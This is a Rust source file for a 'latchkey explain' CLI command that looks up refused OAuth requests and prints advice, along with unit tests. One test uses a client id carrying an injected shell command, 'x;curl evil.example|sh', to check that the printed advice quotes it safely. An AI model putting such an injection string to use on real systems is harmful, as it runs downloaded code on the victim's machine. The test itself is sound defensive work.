//! `latchkey explain`: why a request was refused.

use super::{Answer, Failure, Site, fields, rfc3339, stamp, word};
use crate::op::refusal::{Refusal, Refusals};
use crate::platform::clock::Time;
use serde_json::json;

#[derive(clap::Args)]
pub(super) struct Arguments {
    /// The reference: LK- and eight characters
    reference: String,
}

pub(super) async fn run(site: &Site, arguments: &Arguments) -> Result<Answer, Failure> {
    let reference = normal(&arguments.reference).ok_or_else(|| {
        Failure::usage(format!("{} is not a reference", arguments.reference))
            .fix("a reference is LK- and eight letters and digits, such as LK-7Q2M9KXA")
    })?;
    let found = Refusals::new(&site.slots().await?).find(&reference).await?;
    let refusal = found.ok_or_else(|| {
        Failure::new(format!("there is no record of {reference}")).fix(
            "records are kept for a day, and at most fifty are written per second; search the log for the reference",
        )
    })?;
    let todo = advice(&refusal);
    let mut json = json!(refusal);
    if let Some(members) = json.as_object_mut() {
        members.insert("at".to_owned(), rfc3339(Time::from_millis(refusal.at)).into());
        members.insert("advice".to_owned(), todo.clone().into());
    }
    Ok(Answer::new(described(&refusal, todo), json))
}

/// Accepts any case, with or without `LK-`, and with punctuation from the surrounding sentence.
fn normal(text: &str) -> Option<String> {
    let text = text.trim_matches(|c: char| !c.is_ascii_alphanumeric()).to_ascii_uppercase();
    let characters = text.strip_prefix("LK-").unwrap_or(&text);
    let fits = characters.len() == 8 && characters.bytes().all(|byte| byte.is_ascii_alphanumeric());
    fits.then(|| format!("LK-{characters}"))
}

fn described(refusal: &Refusal, todo: String) -> String {
    let Refusal { reference, at, endpoint, error, description, clause, client_id, sent, expected, cause } = refusal;
    let optional = |text: &Option<String>| text.clone().unwrap_or_default();
    fields(&[
        ("reference", reference.clone()),
        ("when", stamp(Time::from_millis(*at))),
        ("endpoint", endpoint.clone()),
        ("client", optional(client_id)),
        ("error", error.clone()),
        ("told", description.clone()),
        ("rule", optional(clause)),
        ("sent", optional(sent)),
        ("expected", optional(expected)),
        ("cause", optional(cause)),
        ("to do", todo),
    ])
}

/// What to do next, by the OAuth error.
fn advice(refusal: &Refusal) -> String {
    // The request may have come from anyone.
    let client = refusal.client_id.as_deref().map_or_else(|| "CLIENT".to_owned(), word);
    let is_redirect = refusal.description.contains("redirect_uri");
    match refusal.error.as_str() {
        _ if is_redirect => format!("compare `sent` and `expected` character by character; if the application is right: latchkey client update {client} --redirect-uri …"),
        "invalid_client" => format!("latchkey client show {client}; the id, the method and the secret must match the registration (latchkey client rotate-secret {client})"),
        "unauthorized_client" => format!("the registration does not allow this: latchkey client show {client}, then client update"),
        "invalid_grant" => "the code or token was used before, has expired, or belongs to another client: the application must start again at /authorize".to_owned(),
        "invalid_scope" => format!("latchkey client show {client}: its registered scope and [scopes] must contain the requested scopes"),
        "invalid_target" => "request a resource that is configured and allowed for this client".to_owned(),
        "invalid_token" | "insufficient_scope" => "the application must request a new token, with the scope that the API requires".to_owned(),
        "access_denied" => "a person or a rule refused: nothing to fix".to_owned(),
        "server_error" | "temporarily_unavailable" => "a problem of the provider: run latchkey doctor, and look at the log of that time".to_owned(),
        _ => "correct the request as `rule` says; `sent` is what arrived, `expected` what is accepted".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_that_is_printed_runs_nothing_of_what_was_sent() {
        let refusal = |error: &str, description: &str| Refusal {
            reference: "LK-7Q2M9KXA".into(),
            at: 0,
            endpoint: "token".into(),
            error: error.into(),
            description: description.into(),
            clause: None,
            client_id: Some("x;curl evil.example|sh".into()),
            sent: None,
            expected: None,
            cause: None,
        };
        for (error, description) in [
            ("invalid_client", ""),
            ("unauthorized_client", ""),
            ("invalid_scope", ""),
            ("invalid_request", "redirect_uri is not registered"),
        ] {
            let told = advice(&refusal(error, description));
            assert!(told.contains("'x;curl evil.example|sh'"), "{told}");
            assert!(!told.replace("'x;curl evil.example|sh'", "").contains("curl"), "{told}");
        }
    }

    #[test]
    fn a_reference_is_read_as_people_copy_it() {
        for text in ["LK-7Q2M9KXA", "lk-7q2m9kxa", "7Q2M9KXA", " (LK-7Q2M9KXA). "] {
            assert_eq!(normal(text).as_deref(), Some("LK-7Q2M9KXA"), "{text}");
        }
        for text in ["", "LK-", "LK-7Q2M9KX", "LK-7Q2M9KXA7", "LK-ÄÖ"] {
            assert_eq!(normal(text), None, "{text}");
        }
    }
}
